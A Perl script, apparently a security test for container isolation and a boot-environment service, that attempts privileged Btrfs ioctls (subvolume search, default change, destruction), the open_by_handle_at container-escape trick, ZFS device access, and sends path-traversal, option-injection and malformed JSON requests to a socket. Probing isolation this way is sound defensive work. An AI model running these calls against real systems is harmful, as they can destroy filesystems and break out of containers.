#!/usr/bin/perl
# What a shell cannot do by itself, for root of a container who wants more than he is given. Ends with 0 if it came through.
#
#     attack.pl search                 read the names of all subvolumes of the Btrfs that / is on
#     attack.pl default                set which subvolume of that is mounted where none is named
#     attack.pl destroy ID             destroy one, wherever it lies
#     attack.pl handle PATH            print what the kernel calls a file, whoever can see it
#     attack.pl open HANDLE            open that, from /
#     attack.pl zfs                    ask /root/zfs, made to be /dev/zfs, for the pools there are
#     attack.pl say SOCKET ZONE        say what makes no sense, or is about ZONE, and print CASE TAB REPLY for each
use strict;
use warnings;
use IO::Socket::UNIX;

my ($what, @rest) = @ARGV;

sub call_root {
    my ($request, $argument) = @_;
    open(my $root, '<', '/') or die "/: $!\n";
    ioctl($root, $request, $argument) or die "$!\n";
    return $argument;
}

# linux/btrfs.h
if ($what eq 'search') {
    my $key = pack('Q7 L4 Q4', 1, 0, ~0, 0, ~0, 0, ~0, 0, 255, 100, 0, 0, 0, 0, 0);
    my $found = call_root(0xd0009411, $key . "\0" x (4096 - length $key));
    die "nothing\n" unless unpack('L', substr($found, 64, 4));
} elsif ($what eq 'default') {
    call_root(0x40089413, pack('Q', 5));
} elsif ($what eq 'destroy') {
    my $key = pack('q Q Q Q4 Q', 0, 0, 16, 0, 0, 0, 0, $rest[0]);
    call_root(0x5000943f, $key . "\0" x (4096 - length $key));
} elsif ($what eq 'handle') {
    my ($path, $handle, $mount) = ($rest[0], pack('L l', 128, 0) . "\0" x 128, pack('l', 0));
    syscall(303, -100, $path, $handle, $mount, 0) == 0 or die "$!\n";
    print unpack('H*', substr($handle, 0, 8 + unpack('L', $handle))), "\n";
} elsif ($what eq 'open') {
    open(my $root, '<', '/') or die "/: $!\n";
    my $handle = pack('H*', $rest[0]);
    syscall(304, fileno($root), $handle, 0) >= 0 or die "$!\n";
} elsif ($what eq 'zfs') {
    open(my $zfs, '+<', '/root/zfs') or die "$!\n";
} elsif ($what eq 'say') {
    my ($socket, $zone) = @rest;
    my $call = sub { my ($method, $parameters) = @_; qq({"method":"io.bootenv.$method","parameters":{$parameters}}\0) };
    my %cases = (
        a_zone_beside => qq({"method":"io.bootenv.List","zone":"$zone"}\0),
        a_zone => $call->('List', qq("zone":"$zone")),
        a_store => $call->('List', '"store":"/"'),
        a_name_that_climbs => $call->('Create', qq("name":"../$zone/x")),
        a_name_from_the_top => $call->('Create', '"name":"/etc"'),
        a_name_with_nul => $call->('Create', '"name":"a\u0000b"'),
        a_long_name => $call->('Create', '"name":"' . 'n' x 5000 . '"'),
        an_option => $call->('Create', '"name":"--store=/"'),
        a_source_of_another => $call->('Create', qq("name":"x","source":"../../$zone/ROOT/default")),
        one_of_another => $call->('Destroy', qq("names":["../../$zone/ROOT/default"])),
        the_tool_itself => $call->('Destroy', '"names":["../../../BOOTENV"]'),
        to_another => $call->('Rename', qq("old":"spare","new":"../../$zone/ROOT/spare")),
        no_such_method => $call->('Mount', '"name":"spare"'),
        nothing => "\0",
        no_call => "[]\0",
        no_text => "\xff\xfe\x00",
        too_long => 'x' x 100_000,
        too_deep => '{"method":"io.bootenv.List","parameters":' . '[' x 60_000 . "\0",
    );
    for my $case (sort keys %cases) {
        my $stream = IO::Socket::UNIX->new(Peer => $socket) or die "$socket: $!\n";
        local $SIG{PIPE} = 'IGNORE';
        local $/ = "\0";
        print $stream $cases{$case};
        $stream->flush;
        my $reply = <$stream> // '';
        $reply =~ tr/\0\n\t//d;
        print "$case\t$reply\n";
    }
} else {
    die "no $what\n";
}
